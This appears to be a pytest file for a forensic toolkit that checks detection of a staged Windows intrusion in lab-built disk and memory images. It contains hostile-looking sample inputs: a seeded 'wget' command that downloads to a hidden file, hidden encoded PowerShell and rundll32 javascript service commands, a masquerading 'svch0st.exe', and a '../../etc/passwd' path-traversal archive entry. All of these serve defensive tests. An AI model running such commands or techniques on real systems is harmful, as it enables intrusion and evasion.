"""A Windows server's registry, event logs, tasks, prefetch, Amcache and MFT, made by hand (lab/tools/windows) on a real NTFS volume."""

from __future__ import annotations

import json
import zipfile
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from forensic_toolkit import windows_disk, windows_events, windows_rules, windows_symbols
from forensic_toolkit.coverage import Coverage
from forensic_toolkit.errors import SymbolError
from forensic_toolkit.results import Results
from forensic_toolkit.times import now
from lab.tools.windows import evtx, regf, server
from tests.toolkit.examined import NO_TOOLS, TOOLS, examine, run
from tests.toolkit.fake_tree import Builder

LOGS = "/Windows/System32/winevt/Logs"
needs_tools = pytest.mark.skipif(not TOOLS.exists(), reason=NO_TOOLS)
needs_ntfs = pytest.mark.skipif(server.missing() is not None, reason=server.missing() or "")


@pytest.fixture(scope="module")
def volume(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The server's volume."""
    path = tmp_path_factory.mktemp("windows") / "windows.raw"
    server.ntfs(path)
    return path


EXPECTED = {
    ("T1110", "critical"): 60,
    ("T1021.001", "low"): 120,
    ("T1059.001", "high"): 180,
    ("T1136.001", "medium"): 240,
    ("T1098", "high"): 270,
    ("T1053.005", "medium"): 300,
    ("T1543.003", "high"): 360,
    ("T1547.001", "high"): 420,
    ("T1204.002", "medium"): 480,
    ("T1070.001", "high"): 540,
}


@needs_tools
@needs_ntfs
@pytest.mark.investigate
def test_the_intrusion_is_told_step_by_step(volume: Path) -> None:
    found = examine(volume, whole=True)
    assert found["gaps"] == [] and found["failure"] is None
    said = {
        (item["technique"], item["severity"], (datetime.fromisoformat(item["time"]) - server.NIGHT).total_seconds())
        for item in found["findings"]
        if item["time"]
    }
    missing = {step: second for step, second in EXPECTED.items() if (*step, float(second)) not in said}
    print(
        f"\n[investigate] windows: {len(EXPECTED) - len(missing)} of {len(EXPECTED)} steps, {len(said)} findings with a time"
    )
    assert missing == {}
    assert any("Scheduled task that starts something odd: \\Updater" in item["title"] for item in found["findings"])
    account = {item["path"].rsplit("/", 1)[-1]: (item["lines"], item["parsed"]) for item in found["coverage"]}
    assert account == {"Security.evtx": (12, 12), "System.evtx": (1, 1), "prefetch": (1, 1)}
    assert any(event["source"].startswith("prefetch") for event in found["events"])


def changed(volume: Path, folder: Path, *, old: bytes, new: bytes) -> Path:
    """A copy with some bytes replaced."""
    data = volume.read_bytes()
    assert data.count(old) == 1 and len(old) == len(new)
    path = folder / "changed.raw"
    path.write_bytes(data.replace(old, new))
    return path


@needs_tools
@needs_ntfs
@pytest.mark.investigate
def test_a_log_and_a_hive_that_say_nothing_are_gaps(volume: Path, tmp_path: Path) -> None:
    records = evtx.log(server.security())[4096 + 512 : 4096 + 512 + 4000]
    broken = changed(volume, tmp_path, old=records, new=b"\xff" * len(records))
    hive = server.registry()["windows/system32/config/system"][:4600]
    broken = changed(broken, tmp_path, old=hive, new=hive[:4096] + b"\xff" * 504)
    gaps = {gap["what"]: gap["why"] for gap in examine(broken, whole=True)["gaps"]}
    print(f"\n[investigate] windows, damaged: {gaps}")
    assert "of 12 lines were understood" in gaps["coverage: /windows/system32/winevt/logs/Security.evtx"]
    assert "services gave no records" in gaps["coverage: /windows/system32/config/system"]


_MFT = """
import json, sys, tempfile
from pathlib import Path
from forensic_toolkit import windows_disk
from forensic_toolkit.results import Results
from forensic_toolkit.times import now

results = Results("fc-20260101-0123456789", "disk-1", "disk", started=now())
with tempfile.TemporaryDirectory() as folder:
    windows_disk.master_file_table(Path(sys.argv[1]), results=results, raw=Path(folder))
print(json.dumps(results.as_dict(ended=now())))
"""


@needs_tools
@needs_ntfs
@pytest.mark.investigate
def test_the_mft_gives_a_forged_time_away(volume: Path) -> None:
    found = json.loads(run(_MFT, str(volume)))
    assert found["gaps"] == [] and found["counts"]["mft_records"] > 100
    (forged,) = found["findings"]
    assert "svch0st.exe" in forged["title"] and "2019-03-04T05:06:07Z" in forged["detail"]


def test_a_damaged_log_counts_what_its_chunks_say() -> None:
    builder = Builder().add(f"{LOGS}/Security.evtx", evtx.log(server.security()))
    builder.add(f"{LOGS}/Broken.evtx", evtx.log(server.security(), broken=True)).add(f"{LOGS}/Empty.evtx", bytes(4096))
    account = Coverage()
    read = [
        {"source": rf"C:\Windows\System32\winevt\Logs\{name}.evtx", "ts": "2026-11-21T02:00:00Z"}
        for name in ["Security"] * 12 + ["Broken"] * 3
    ]
    list(windows_disk._account(builder.tree(), {"evtx": read, "prefetch": []}, account=account))
    short = {item.path.rsplit("/", 1)[-1]: item.shortfalls() for item in account.artifacts}
    assert short == {"Security.evtx": [], "Broken.evtx": ["3 of 12 lines were understood"], "Empty.evtx": []}


@pytest.mark.parametrize(
    ("command", "odd"),
    [
        (r"C:\ProgramData\.cache\svch0st.exe", True),
        (r"C:\Users\Public\a.exe", True),
        (r"C:\Users\x\AppData\Local\Temp\setup.exe", True),
        ("powershell.exe -w hidden -enc SQBFAFgA", True),
        (r"rundll32.exe javascript:..\mshtml", True),
        (r"C:\a.exe", True),
        (r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe", False),
        (r"C:\Program Files\Amazon\SSM\amazon-ssm-agent.exe", False),
        (r"%SystemRoot%\System32\svchost.exe -k netsvcs", False),
        (r"powershell.exe -File C:\ops\backup.ps1", False),
    ],
)
def test_what_starts_from_an_odd_place(command: str, odd: bool) -> None:
    records = {"services": [{"name": "x", "imagepath": command, "ts": "2026-11-21T02:00:00Z"}]}
    assert bool(list(windows_rules.services(records))) is odd


def test_times_of_the_mft_that_fit_are_quiet() -> None:
    def entry(said: str, named: str, segment: int) -> list[dict[str, Any]]:
        record = {"ts_type": "B", "segment": segment, "path": f"c:\\{segment}"}
        return [{**record, "ts": said}, {**record, "ts": named, "filename_index": 0}]

    records = entry("2026-01-01T00:00:00+00:00", "2026-01-01T00:00:00.5+00:00", 1)
    records += entry("2020-01-01T00:00:00.123456+00:00", "2026-01-01T00:00:00+00:00", 2)
    records += entry("2020-01-01T00:00:00+00:00", "2026-01-01T00:00:00+00:00", 3)
    records += [{"ts_type": "B", "segment": None, "ts": "x"}]
    assert [item.source for item in windows_rules.forged_times(records)] == ["c:\\3"]


def test_guessed_passwords_need_many_in_a_short_time() -> None:
    def record(minute: int, number: int, address: str = "203.0.113.66") -> dict[str, Any]:
        return {"ts": f"2026-11-21T02:{minute:02}:00Z", "EventID": number, "IpAddress": address, "TargetUserName": "a"}

    slow = [record(minute, 4625) for minute in range(0, 60, 12)]
    quick = [record(minute, 4625, "203.0.113.67") for minute in range(5)]
    local = [record(minute, 4625, "-") for minute in range(9)]
    found = list(windows_events._guessing([*slow, *quick, *local, record(7, 4624, "203.0.113.67")]))
    assert [(item.title, item.severity) for item in found] == [
        ("Passwords guessed from 203.0.113.67, and one worked", "critical")
    ]


def test_hives_of_the_lab_hold_what_they_should() -> None:
    hive = server.registry()["windows/system32/config/software"]
    assert hive[:4] == b"regf" and len(hive) % 4096 == 0
    assert regf.filetime(datetime.fromisoformat("1970-01-01T00:00:00+00:00")) == 116_444_736_000_000_000
    with pytest.raises(ValueError, match="do not fit"):
        evtx.log(server.security() * 60)


def test_the_offline_store_unpacks_tables_and_nothing_else(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    name = "windows/ntkrnlmp.pdb/3844DBB920174967BE7AA4A2C20430FA-2.json.xz"
    archive = tmp_path / "symbols.zip"
    with zipfile.ZipFile(archive, "w") as packed:
        for path in (
            name,
            f"symbols/{name}",
            "../../etc/passwd",
            "windows/../x/a.json",
            "linux/kernel.json",
            "windows/a.pdb/b.json",
        ):
            packed.writestr(path, b"table")
    folder = windows_symbols.prepare({"symbols_windows": archive}, work=tmp_path)
    assert [path.relative_to(folder).as_posix() for path in folder.rglob("*") if path.is_file()] == [name]
    monkeypatch.setenv("FORENSIC_SYMBOLS", str(folder))
    assert windows_symbols.prepare({}, work=tmp_path / "other") == folder
    monkeypatch.setenv("FORENSIC_SYMBOLS", str(tmp_path / "none"))
    with pytest.raises(SymbolError, match="no symbol table for Windows"):
        windows_symbols.prepare({}, work=tmp_path)
    (tmp_path / "bad.zip").write_bytes(b"PK nothing")
    with pytest.raises(SymbolError, match="cannot be unpacked"):
        windows_symbols.prepare({"symbols_windows": tmp_path / "bad.zip"}, work=tmp_path)
    monkeypatch.setattr(windows_symbols, "MAX_FILES", 1)
    with pytest.raises(SymbolError, match="more than 1 files"):
        windows_symbols.prepare({"symbols_windows": archive}, work=tmp_path)


_MEMORY = """
import json, sys, tempfile
from pathlib import Path
from forensic_toolkit import memory
from forensic_toolkit.results import Results
from forensic_toolkit.times import now

results = Results("fc-20260101-0123456789", "mem-1", "memory", started=now())
results.input_bytes = 1
with tempfile.TemporaryDirectory() as folder:
    work = Path(folder)
    files = {"memory": Path(sys.argv[1]), **({"symbols_windows": Path(sys.argv[2])} if len(sys.argv) > 2 else {})}
    memory.analyse(results, files=files, work=work, raw=work / "raw", platform="windows")
print(json.dumps(results.as_dict(ended=now())))
"""


@needs_tools
@pytest.mark.investigate
def test_windows_memory_without_a_fitting_table_is_partial(tmp_path: Path) -> None:
    image = tmp_path / "memory.raw"
    image.write_bytes(bytes(1 << 20) + b"wget http://203.0.113.66/a -O /tmp/.x\0" + bytes(1 << 20))
    alone = json.loads(run(_MEMORY, str(image)))
    assert "no symbol table for Windows" in alone["gaps"][0]["why"]
    assert any("text in memory" in item["title"] for item in alone["findings"])
    archive = tmp_path / "symbols.zip"
    with zipfile.ZipFile(archive, "w") as packed:
        packed.writestr("windows/ntkrnlmp.pdb/3844DBB920174967BE7AA4A2C20430FA-2.json", b"{}")
    tried = json.loads(run(_MEMORY, str(image), str(archive)))
    runs = [item for item in tried["provenance"] if item["tool"] == "volatility3"]
    assert len(runs) == 20 and all(item["error"] for item in runs), "each plugin's failure is recorded for itself"
    assert any("cannot read the list of processes" in gap["why"] for gap in tried["gaps"])
    assert any("text in memory" in item["title"] for item in tried["findings"])


def test_results_of_a_volume_without_windows_say_nothing_of_it() -> None:
    assert not windows_disk.is_windows(Builder().tree())
    results = Results("fc-20260101-0123456789", "disk-1", "disk", started=now())
    windows_disk._judge_registry(Builder().tree(), {"services": [], "amcache.application_files": []}, results=results)
    assert results.gaps == []
